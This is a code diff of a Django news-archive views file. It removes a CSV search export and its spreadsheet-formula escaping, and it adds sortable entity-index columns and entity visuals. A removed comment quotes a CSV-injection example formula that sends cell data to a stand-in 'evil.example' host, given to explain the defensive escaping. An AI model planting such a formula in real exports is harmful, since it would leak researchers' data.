@@ -1,14 +1,14 @@
-import csv
 from datetime import date
 
 from django.conf import settings
 from django.core.paginator import Paginator
-from django.http import Http404, HttpResponse
+from django.http import Http404
 from django.shortcuts import redirect, render
 from django.views.decorators.http import require_safe
 
 from .. import selectors
 from ..models import Article, EntityKind
+from ..visuals import entity_visuals
 from . import citations
 from .caching import archive_version, public_page
 from .common import (
@@ -22,24 +22,6 @@ from .common import (
 )
 
 INDEX_PAGE_SIZE = 100
-
-EXPORT_LIMIT = 10_000
-
-# A spreadsheet reads a cell starting with one of these as a formula (or as the start of one):
-# `=HYPERLINK("http://evil.example/?"&A1)` in an article title would send a researcher's data
-# away when they open the export. OWASP's advice ("CSV Injection"): prefix a single quote.
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def csv_cell(value) -> str:
-    """`value` as a CSV cell no spreadsheet evaluates: every export writes its cells through
-    this (text starting with = + - @ tab or CR gets a leading ')."""
-    text = "" if value is None else str(value)
-    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
-
-
-def csv_row(values) -> list[str]:
-    return [csv_cell(v) for v in values]
 
 
 @require_safe
@@ -111,55 +93,6 @@ def _swapped_dates(params) -> str:
     return fixed.urlencode()
 
 
-@require_safe
-@public_page
-def search_export(request):
-    """The result set as CSV, for researchers: up to EXPORT_LIMIT rows in the requested
-    order (relevance covers the search window; sort by date to export every match)."""
-    try:
-        _, results = run_search(
-            request.GET,
-            EXPORT_LIMIT,
-            with_facets=False,
-            with_highlights=False,
-            version=archive_version(request),
-        )
-    except BadRequest as exc:
-        return HttpResponse(str(exc), status=400, content_type="text/plain; charset=utf-8")
-    except PageOutOfRange:
-        raise Http404 from None
-    except SearchTimeout:
-        response = HttpResponse(TIMEOUT_MESSAGE, status=503, content_type="text/plain")
-        response["Retry-After"] = "5"
-        return response
-    response = HttpResponse(content_type="text/csv; charset=utf-8")
-    response["Content-Disposition"] = 'attachment; filename="archive-search.csv"'
-    response["X-Total-Matches"] = str(results.total)
-    writer = csv.writer(response)
-    # One column per kind of entity (agencies, contractors, programs, organizations).
-    writer.writerow(
-        csv_row(
-            ["title", "published", "publication", "source_url", "archive_url"]
-            + [k.plural for k in EntityKind]
-        )
-    )
-    for hit in results.hits:
-        a = hit.article
-        writer.writerow(
-            csv_row(
-                [
-                    a.title,
-                    a.published or "",
-                    a.publication,
-                    a.source_url,
-                    request.build_absolute_uri(a.get_absolute_url()),
-                ]
-                + ["; ".join(e.short_name for e in hit.entities if e.kind == k) for k in EntityKind]
-            )
-        )
-    return response
-
-
 def _timed_out(request):
     response = render(
         request,
@@ -204,14 +137,41 @@ def entity_index(request, kind_plural):
         number = page_number(request.GET.get("page"))
     except BadRequest as exc:
         return render(request, "archive/bad_request.html", {"message": str(exc)}, status=400)
-    entities = selectors.ranked_entities(kind, archive_version(request))
-    paginator = Paginator(entities, INDEX_PAGE_SIZE)
+    # An order we do not know (an old link, a typo) reads as the default, never an error.
+    sort = request.GET.get("sort", "")
+    sort = sort if sort in selectors.INDEX_SORTS else selectors.INDEX_SORTS[0]
+    rows = selectors.entity_index_rows(kind, sort, archive_version(request))
+    paginator = Paginator(rows, INDEX_PAGE_SIZE)
     if number > paginator.num_pages:
         raise Http404("That page of the list does not exist.")
+    # The sortable columns: (label, key, the order a first click asks for). A click on the
+    # column the list is sorted by reverses it; aria-sort tells a screen reader which it is.
+    columns = []
+    for label, key, first_click in [
+        ("Name", "name", "name"),
+        ("Articles", "articles", "-articles"),
+        ("First named", "first", "first"),
+        ("Last named", "last", "-last"),
+    ]:
+        current = sort.lstrip("-") == key
+        descending = sort.startswith("-")
+        columns.append(
+            {
+                "label": label,
+                "key": key,
+                "aria_sort": ("descending" if descending else "ascending") if current else "",
+                "next": (key if descending else f"-{key}") if current else first_click,
+            }
+        )
     return render(
         request,
         "archive/entity_index.html",
-        {"kind": kind, "page": paginator.page(number)},
+        {
+            "kind": kind,
+            "page": paginator.page(number),
+            "sort": sort,
+            "columns": {c["key"]: c for c in columns},
+        },
     )
 
 
@@ -227,10 +187,14 @@ def entity(request, kind_plural, slug):
         chosen = article_filter(request.GET)
     except BadRequest as exc:
         return render(request, "archive/bad_request.html", {"message": str(exc)}, status=400)
-    page = selectors.entity_page(found, chosen, archive_version(request))
+    version = archive_version(request)
+    page = selectors.entity_page(found, chosen, version)
     if chosen.page != page.articles.page:
         raise Http404("That page of articles does not exist.")
-    return render(request, "archive/entity.html", {"page": page, "entity": page.detail})
+    context = {"page": page, "entity": page.detail}
+    # Its neighbourhood map and its articles by year (the summary already read).
+    context |= entity_visuals(found, version, summary=page.summary)
+    return render(request, "archive/entity.html", context)
 
 
 def not_found(request, exception):
